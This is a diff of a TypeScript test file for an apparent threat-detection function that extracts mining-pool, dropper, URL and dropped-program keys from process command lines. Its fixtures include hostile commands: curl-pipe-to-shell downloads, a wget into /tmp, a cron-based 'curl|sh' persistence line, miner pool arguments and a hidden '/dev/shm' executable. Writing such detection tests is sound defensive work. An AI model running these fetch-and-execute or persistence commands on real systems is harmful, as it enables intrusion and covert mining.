@@ -47,22 +47,34 @@ describe('campaignJoins', () => {
 });
 
 describe('campaignKeys', () => {
-  it.each<[string, Record<string, string>]>([
-    ['/tmp/x -o stratum+tcp://gulf.example.stream:10128 -u w', { pool: 'pool:gulf.example.stream' }],
-    ['/tmp/x -o 199.247.27.41:3333 -u w', { pool: 'pool:199.247.27.41' }],
-    ['/tmp/x --url=pool.example.com:443', { pool: 'pool:pool.example.com' }],
-    ['/usr/bin/gcc -o main.o -c main.c', {}],
-    ['/bin/sh -c "curl -s http://203.0.113.9/x.sh | sh"', { dropper: 'dropper:203.0.113.9' }],
-    ['/usr/bin/wget http://203.0.113.9:8080/a -O /tmp/a', { dropper: 'dropper:203.0.113.9' }],
-    ['/usr/bin/curl https://github.com/a/b', {}],
-    ['/usr/bin/curl http://10.0.0.8/a', {}],
-    ['/usr/bin/curl http://169.254.169.254/latest/meta-data', {}],
-    ['/usr/bin/curl http://203.0.113.9.example.com/a', {}],
+  it.each<[string, string[]]>([
+    ['/tmp/x -o stratum+tcp://gulf.example.stream:10128 -u w', ['pool:gulf.example.stream']],
+    ['/tmp/x -o 199.247.27.41:3333 -u w', ['pool:199.247.27.41']],
+    ['/tmp/x --url=pool.example.com:443', ['pool:pool.example.com']],
+    ['/usr/bin/gcc -o main.o -c main.c', []],
+    ['/bin/sh -c "curl -s http://203.0.113.9/x.sh | sh"', ['dropper:203.0.113.9', 'url:http://203.0.113.9/x.sh']],
+    ['/usr/bin/wget http://203.0.113.9:8080/a -O /tmp/a', ['dropper:203.0.113.9', 'url:http://203.0.113.9:8080/a']],
+    [
+      '/bin/sh -c "echo \'* * * * * root curl http://cdn.example.org/p|sh\' > /h/cron.d/a"',
+      ['url:http://cdn.example.org/p'],
+    ],
+    ['/usr/bin/curl https://example.org', []],
+    ['/usr/bin/curl https://example.org/', []],
+    ['/usr/bin/curl http://10.0.0.8/a', ['url:http://10.0.0.8/a']],
+    ['/usr/bin/curl http://203.0.113.9.example.com/a', ['url:http://203.0.113.9.example.com/a']],
   ])('parses the campaign keys of %j', (commandLine, keys) => {
-    expect(campaignKeys(observation({ process: { commandLine } }))).toEqual(keys);
+    expect(Object.values(campaignKeys(observation({ process: { commandLine } }))).flat()).toEqual(keys);
   });
 
   it('takes the address that a miner connects to as the pool that another event names', () => {
-    expect(campaignKeys(observation(peer('199.247.27.41')))).toEqual({ peer: 'pool:199.247.27.41' });
+    expect(campaignKeys(observation(peer('199.247.27.41'))).peer).toEqual(['pool:199.247.27.41']);
+  });
+
+  it.each([
+    ['/dev/shm/.kworkerds', ['program:eu1//dev/shm/.kworkerds']],
+    ['/proc/self/fd/4', []],
+    ['memfd:a', []],
+  ])('joins a dropped program %s by its path within the cluster', (executable, keys) => {
+    expect(campaignKeys(observation({ cluster: 'eu1', process: { executable } })).program).toEqual(keys);
   });
 });
